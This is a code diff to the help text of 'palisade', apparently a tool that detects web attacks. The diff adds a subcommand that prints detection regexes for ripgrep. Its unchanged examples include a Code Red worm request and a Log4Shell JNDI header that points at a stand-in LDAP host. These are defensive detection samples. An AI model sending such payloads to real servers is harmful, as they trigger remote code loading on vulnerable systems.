@@ -47,6 +47,7 @@ Examples:
   palisade rules show codered1
   palisade rules test                            every rule's own examples
   palisade rules test --rules mine.yaml --without-own
+  palisade rules patterns | rg -a -f - access.log
   palisade rules explain 'GET /default.ida?NNNNNNNN%u9090 HTTP/1.0'
   palisade rules explain 'GET / HTTP/1.1' -H 'User-Agent: ${jndi:ldap://192.0.2.9/a}'")]
 pub(crate) enum RulesCommand {
@@ -59,6 +60,9 @@ pub(crate) enum RulesCommand {
     },
     /// Hold each rule against the examples in its file
     Test,
+    /// Print what a census looks for in raw lines before it judges any: regular expressions over bytes, one a line, as
+    /// ripgrep's -f takes them
+    Patterns,
     /// Tell which rules recognise a request, and by what
     Explain(Asked),
 }
